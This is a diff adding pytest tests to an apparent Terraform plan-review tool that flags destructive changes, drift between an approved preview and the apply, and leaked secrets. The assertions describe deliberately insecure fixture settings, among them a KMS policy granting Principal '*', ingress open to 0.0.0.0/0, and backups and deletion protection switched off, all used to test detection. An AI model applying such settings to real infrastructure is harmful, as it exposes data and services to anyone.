+    assert all(rule[1] not in attrs for addr, attrs in tripped_rules(damage_plans["harmless"]).items() if addr.startswith(rule[0] + "."))
+
+
+def damage_row(text: str, address: str, attribute: str) -> str:
+    """The red damage table's row for ``address`` whose change names ``attribute``."""
+    red = text.split(DAMAGE_HEADING)[1].split("\n## ")[0]
+    rows = [line for line in red.splitlines() if line.startswith("| ") and f"<code>{address}</code>" in line
+            and f"<code>{attribute}</code>" in line]
+    assert len(rows) == 1, f"{address} {attribute}: {rows}\n{red}"
+    return rows[0]
+
+
+@TERRAFORM
+def test_real_damaged_plan_is_red_with_old_and_new_values(damage_plans: dict[str, Path], tmp_path: Path) -> None:
+    """The two cuts seen on real plans that used to pass green, and the rest of the table, with what is at risk."""
+    code, text = report_for(damage_plans["damaged"], tmp_path)
+    assert code == EXIT_DESTRUCTIVE
+    assert text.index(DAMAGE_HEADING) < text.index("## Summary")
+    row = damage_row(text, "aws_cloudwatch_log_group.audit", "retention_in_days")
+    assert "| **update** | <code>retention_in_days</code>: <code>30</code> → <code>7</code> | decreased" in row and "deleted" in row
+    row = damage_row(text, "aws_sqs_queue.dlq", "message_retention_seconds")
+    assert "<code>64800</code> → <code>43200</code>" in row and "dead-letter queue" in row
+    assert "<code>retention_in_days</code>: <code>0</code> → <code>30</code>" in damage_row(text, "aws_cloudwatch_log_group.forever", "retention_in_days")
+    assert "<code>true</code> → <code>false</code>" in damage_row(text, "aws_db_instance.db", "deletion_protection")
+    assert "<code>7</code> → <code>0</code>" in damage_row(text, "aws_db_instance.db", "backup_retention_period")
+    assert '<code>"Enabled"</code> → <code>"Suspended"</code>' in damage_row(text, "aws_s3_bucket_versioning.state",
+                                                                             "versioning_configuration[0].status")
+    policy = damage_row(text, "aws_kms_key.data", "policy")
+    assert '+ <code>Statement[Sid="Grant0"]</code>' in policy and '"Principal": {"AWS": "*"}' in policy
+    opened = damage_row(text, "aws_security_group.web", "ingress")
+    assert "0.0.0.0/0" in opened and "10.0.0.0/8" in opened and "reachable from the whole internet" in opened
+    assert "| **create** |" in damage_row(text, "aws_vpc_security_group_ingress_rule.anywhere6", "cidr_ipv6")
+    assert "| **replace** |" in damage_row(text, "aws_security_group_rule.redis", "cidr_blocks")
+    assert "aws_security_group_rule.egress" not in text.split(DAMAGE_HEADING)[1].split("\n## ")[0]
+    # The replaced database and cache are also in the destroy/replace section.
+    destroyed = text.split(DAMAGE_HEADING)[0]
+    assert "<code>aws_db_instance.db</code> | **replace**" in destroyed
+    assert report_for(damage_plans["damaged"], tmp_path, "--allow-destructive")[0] == EXIT_OK
+
+
+@TERRAFORM
+def test_real_key_scheduled_for_deletion_outside_terraform_is_red(damage_plans: dict[str, Path], tmp_path: Path) -> None:
+    """moto keeps a key scheduled for deletion as PendingDeletion; the provider reads it as gone (as on AWS)."""
+    drift = {item["address"]: item["change"]["actions"] for item in json.loads(damage_plans["damaged"].read_text())["resource_drift"]}
+    assert drift["aws_kms_key.doomed"] == ["delete"]
+    red = report_for(damage_plans["damaged"], tmp_path)[1].split(DAMAGE_HEADING)[1].split("\n## ")[0]
+    row = next(line for line in red.splitlines() if "<code>aws_kms_key.doomed</code>" in line)
+    assert "| **deleted outside Terraform** |" in row and "cancel-key-deletion" in row
+
+
+@TERRAFORM
+def test_real_provisioner_is_red(damage_plans: dict[str, Path], tmp_path: Path) -> None:
+    code, text = report_for(damage_plans["damaged"], tmp_path)
+    section = text.split("## 🛑 Provisioners: commands Terraform runs")[1].split("\n## ")[0]
+    assert "| damaged | <code>terraform_data.hook</code> | <code>local-exec</code> | <code>echo never-run</code> |" in section
+    assert code == EXIT_DESTRUCTIVE
+
+
+@TERRAFORM
+def test_real_harmless_direction_stays_green(damage_plans: dict[str, Path], tmp_path: Path) -> None:
+    """Retention raised, a private CIDR added: the same resources, the safe way, are not red."""
+    changes = plan_changes(damage_plans["harmless"])
+    for address in ("aws_cloudwatch_log_group.audit", "aws_sqs_queue.dlq", "aws_db_instance.db", "aws_security_group.web",
+                    "aws_elasticache_replication_group.cache", "aws_kinesis_stream.events", "aws_vpc_security_group_ingress_rule.db"):
+        assert changes[address] in (["update"], ["delete", "create"]), f"{address}: {changes[address]} (the case changes nothing)"
+    code, text = report_for(damage_plans["harmless"], tmp_path)
+    assert code == EXIT_OK, text
+    assert DAMAGE_HEADING not in text and "Provisioners" not in text
+    assert "✅ **No destroy or replace of stateful resources, no in-place damage, no provisioner.**" in text
+
+
+# ---------------------------------------------------------------------------------------------------------
+# Real plans: the change set a deploy approves (tools/change_set.py)
+# ---------------------------------------------------------------------------------------------------------
+def change_set_of(plan: Path) -> dict[str, Any]:
+    from tools import change_set
+
+    return change_set.change_set(json.loads(plan.read_text()))
+
+
+@TERRAFORM
+@pytest.mark.parametrize(("approved", "now"), [("create", "create-again"), ("update", "update-again")])
+def test_real_same_configuration_and_state_give_the_same_change_set(real_plans: dict[str, Path], approved: str, now: str) -> None:
+    from tools import change_set
+
+    first, second = change_set_of(real_plans[approved]), change_set_of(real_plans[now])
+    assert first["changes"] and change_set.differences(first, second) == []
+    if approved == "create":  # values known only after apply (ARNs, ids) are in both plans, and do not count
+        plan = json.loads(real_plans[approved].read_text())
+        assert any(contains_unknown(item["change"].get("after_unknown")) for item in plan["resource_changes"])
+
+
+def contains_unknown(tree: Any) -> bool:
+    from tools.plan_json import contains_true
+
+    return contains_true(tree)
+
+
+@TERRAFORM
+def test_real_drift_between_preview_and_apply_names_the_address(real_plans: dict[str, Path], tmp_path: Path,
+                                                                 capsys: pytest.CaptureFixture[str]) -> None:
+    """The stream's retention was changed outside Terraform after the approved plan: the apply's plan now also
+    changes the stream, and the check stops with one line naming it (through the CLI, as the apply job runs it)."""
+    from tools import change_set
+
+    approved = tmp_path / "approved.json"
+    assert change_set.main(["write", str(real_plans["update"]), "--output", str(approved)]) == change_set.EXIT_SAME
+    capsys.readouterr()
+    assert change_set.main(["check", "--approved", str(approved), str(real_plans["update-drifted"])]) == change_set.EXIT_DIFFERENT
+    assert capsys.readouterr().out.splitlines() == ["aws_kinesis_stream.events: not in the approved preview (now: update)"]
+    assert change_set.main(["check", "--approved", str(approved), str(real_plans["update-again"])]) == change_set.EXIT_SAME
+
+
+@TERRAFORM
+def test_real_configuration_change_names_each_address(real_plans: dict[str, Path]) -> None:
+    """Approved: the alarm threshold 10 -> 25. Planned now from another configuration: the stream renamed (replace),
+    which also changes the alarm's dimensions, not its threshold."""
+    from tools import change_set
+
+    found = change_set.differences(change_set_of(real_plans["update"]), change_set_of(real_plans["replace"]))
+    assert found == ["aws_cloudwatch_metric_alarm.iterator_age: what the plan does differs from the approved preview (update)",
+                     "aws_kinesis_stream.events: not in the approved preview (now: delete, create)"]
+
+
+@TERRAFORM
+def test_real_change_set_holds_no_value_only_addresses_actions_and_digests(damage_plans: dict[str, Path], tmp_path: Path) -> None:
+    """The damaged plan replaces a database whose password is in the plan JSON in clear (sensitive): the change set
+    written by the script, as the preview job runs it, holds none of it."""
+    plan = damage_plans["damaged"]
+    assert "emulator-only-password" in plan.read_text()
+    out = tmp_path / "damaged.change-set.json"
+    result = subprocess.run([sys.executable, str(REPO_ROOT / "tools" / "change_set.py"), "write", str(plan), "--output", str(out)],
+                            capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    written = json.loads(out.read_text())
+    assert set(written) == {"format", "terraform_version", "changes"} and "emulator-only-password" not in out.read_text()
+    assert written["changes"]["aws_db_instance.db"]["actions"] == ["delete", "create"]
+    for address, item in written["changes"].items():
+        assert set(item) == {"actions", "digest"} and re.fullmatch(r"sha256:[0-9a-f]{64}", item["digest"]), address
+
+
+def test_output_to_a_device_or_pipe_writes_through_it_and_leaves_it_in_place(tmp_path: Path) -> None:
+    """`--output /dev/null` once replaced /dev/null with a regular file for the whole machine: a path that is not
+    a regular file is written to as it is, never renamed over."""
+    import stat
+    import threading
+
+    from tools.plan_json import write_atomically
+
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    received: list[str] = []
+    reader = threading.Thread(target=lambda: received.append(pipe.read_text(encoding="utf-8")), daemon=True)
+    reader.start()
+    write_atomically(str(pipe), "report\n")
+    reader.join(timeout=10)
+    assert received == ["report\n"]
+    assert stat.S_ISFIFO(pipe.stat().st_mode), "the pipe is still a pipe"
+    assert [p.name for p in tmp_path.iterdir()] == ["pipe"], "no temporary file left beside it"
